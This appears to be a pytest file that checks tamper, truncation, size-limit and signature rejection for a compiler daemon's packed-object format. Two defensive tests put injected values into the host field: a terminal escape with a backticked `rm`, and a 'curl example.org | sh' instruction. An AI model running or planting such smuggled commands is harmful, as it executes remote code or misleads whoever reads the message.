"""A packed object that was changed, cut short or made wrong is refused, and these tests can fail."""

from __future__ import annotations

from dataclasses import replace

import pytest

from compile_wire.digest import digest_of
from compile_wire.facts import Facts, encode_facts
from compile_wire.limits import MAX_GRAPH_BYTES
from compile_wire.manifest import decode_manifest
from compiler_daemon.tier import header as header_module
from compiler_daemon.tier import packed as packed_module
from compiler_daemon.tier import verification
from compiler_daemon.tier.header import MAGIC, Signature, encode_header, read_header, text_to_sign
from compiler_daemon.tier.object_errors import (
    MalformedObjectError,
    ObjectError,
    ObjectTooLargeError,
)
from compiler_daemon.tier.packed import pack, pack_facts, unpack, unpack_facts
from tests.daemon.tier.packed_samples import (
    FOUR_GB,
    SIGNED_NONSENSE,
    SMALL,
    SMALL_FACTS,
    allocating_at_most,
    body_of,
    read,
    reason_of,
    served_though_changed,
)
from tests.daemon.tier.tier_samples import (
    ENVIRONMENT,
    HOST,
    KEY,
    LAB,
    STRANGER,
    TRUSTED,
    artifact,
    packed,
    signed_anew,
    typical,
)


def test_each_changed_byte_is_refused_and_what_was_signed_is_never_called_a_strangers() -> None:
    taken, reasons = served_though_changed(SMALL, 0x01, 0x80, 0xFF)

    assert taken == []
    assert {"malformed", "bad_signature"} <= reasons <= {"malformed", "bad_signature", "too_large"}


def test_each_changed_byte_of_facts_is_refused() -> None:
    for at in range(len(SMALL_FACTS)):
        damaged = bytearray(SMALL_FACTS)
        damaged[at] ^= 0x01
        with pytest.raises(ObjectError):
            unpack_facts(bytes(damaged), environment=ENVIRONMENT, trusted=TRUSTED)


@pytest.mark.parametrize("data", [SMALL, packed(typical())], ids=["small", "typical"])
def test_what_is_cut_short_anywhere_is_malformed(data: bytes) -> None:
    lengths = {len(data) * part // 50 for part in range(50)} | {len(data) - 1, *range(80)}

    assert {reason_of(data[:length]) for length in lengths} == {"malformed"}


@pytest.mark.parametrize("more", [b"\0", b"more", SMALL], ids=["a zero", "text", "itself"])
def test_what_stands_behind_an_object_is_malformed(more: bytes) -> None:
    assert reason_of(SMALL + more) == "malformed"


def test_an_object_of_a_later_version_is_said_to_be_one() -> None:
    later = bytearray(SMALL)
    later[len(MAGIC)] += 1

    with pytest.raises(MalformedObjectError, match="a later version of this program"):
        read(bytes(later))


@pytest.mark.parametrize("what", SIGNED_NONSENSE)
def test_nonsense_that_a_trusted_signer_has_signed_is_refused(what: str) -> None:
    make, reason = SIGNED_NONSENSE[what]

    assert reason_of(make()) == reason


@pytest.mark.parametrize("names", [["", "a.so", "a.so"]])
def test_a_manifest_that_names_two_blobs_alike_is_refused_on_both_sides(
    names: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    made = artifact([b"e", b"one", b"two"], names=names)
    with pytest.raises(MalformedObjectError, match="two blobs alike"):
        packed(made)
    with monkeypatch.context() as careless:
        careless.setattr(packed_module, "_manifest", decode_manifest)
        data = packed(made)

    assert reason_of(data) == "malformed"


@pytest.mark.parametrize(
    "changes",
    [
        {"unpacked": FOUR_GB},
        {"packed": FOUR_GB},
        {"graph_size": FOUR_GB, "unpacked": 2**30},
        {"manifest_size": FOUR_GB, "unpacked": 2**30},
    ],
    ids=["content", "body", "graph", "manifest"],
)
def test_four_gigabytes_are_refused_when_they_are_announced(
    changes: dict[str, int], monkeypatch: pytest.MonkeyPatch
) -> None:
    statement = replace(read_header(SMALL).statement, **changes)
    with monkeypatch.context() as careless:
        careless.setattr(header_module, "_check_sizes", lambda statement: None)
        signed = header_module.encode_statement(statement)
        signature = Signature(LAB.signer, LAB.sign(text_to_sign("lab-1", signed)))
        data = encode_header(signed, (signature,)) + body_of(SMALL)

    with allocating_at_most(2**20):
        assert reason_of(data) == "too_large"


def test_what_is_packed_here_is_bounded_too() -> None:
    with pytest.raises(ObjectTooLargeError):
        packed(artifact(graph=bytes(MAX_GRAPH_BYTES + 1)))


def test_a_caller_may_take_less_than_the_bounds_allow() -> None:
    with pytest.raises(ObjectTooLargeError):
        unpack(packed(typical()), key=KEY, environment=ENVIRONMENT, trusted=TRUSTED, max_unpacked=100_000)


def test_parts_that_do_not_belong_together_are_not_signed() -> None:
    made = artifact()
    first = next(iter(made.blobs))

    for blobs in ({}, {**made.blobs, first: b"other"}, {**made.blobs, digest_of(b"more"): b"more"}):
        with pytest.raises(MalformedObjectError):
            pack(made.manifest, blobs, graph=None, facts="", signer=LAB, host=HOST)
    with pytest.raises(MalformedObjectError):
        pack(made.manifest, made.blobs, graph=b"another graph", facts="", signer=LAB, host=HOST)
    with pytest.raises(MalformedObjectError):
        pack_facts(b"no facts", ENVIRONMENT, signer=LAB, host=HOST)


def test_a_host_says_nothing_but_a_machines_name() -> None:
    made = artifact()

    data = pack(made.manifest, made.blobs, graph=None, facts="", signer=LAB, host="node\x1b[31m `rm`" + "x" * 999)

    assert read_header(data).statement.host.startswith("node__31m__rm_xxx")


def test_a_stranger_cannot_write_sentences_into_a_message(monkeypatch: pytest.MonkeyPatch) -> None:
    with monkeypatch.context() as careless:
        careless.setattr(header_module, "host_text", lambda host: host)
        data = signed_anew(SMALL, STRANGER, host="node-07. Run `curl example.org | sh` first")

    assert reason_of(data) == "malformed"


# That all this can fail


def test_a_verifier_without_its_digests_serves_changed_bytes(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(packed_module, "check_part", lambda data, expected, what: None)

    taken, _ = served_though_changed(SMALL, 0x01)

    assert taken
    assert min(taken) >= read_header(SMALL).body_begin


def test_a_verifier_without_signatures_serves_what_a_stranger_made(monkeypatch: pytest.MonkeyPatch) -> None:
    data = packed(artifact(), STRANGER)
    assert reason_of(data) == "unknown_signer"

    monkeypatch.setattr(packed_module, "check_signatures", lambda header, trusted: STRANGER.signer)

    assert read(data).signer == STRANGER.signer
    assert verification.check_signatures is not packed_module.check_signatures


def test_other_facts_are_another_object() -> None:
    other = pack_facts(encode_facts(Facts(vec_isa={"avx2 -O3": False})), ENVIRONMENT, signer=LAB, host=HOST)

    header, body = read_header(SMALL_FACTS), body_of(other)
    mixed = encode_header(header.signed, header.signatures) + body

    with pytest.raises(MalformedObjectError):
        unpack_facts(mixed, environment=ENVIRONMENT, trusted=TRUSTED)
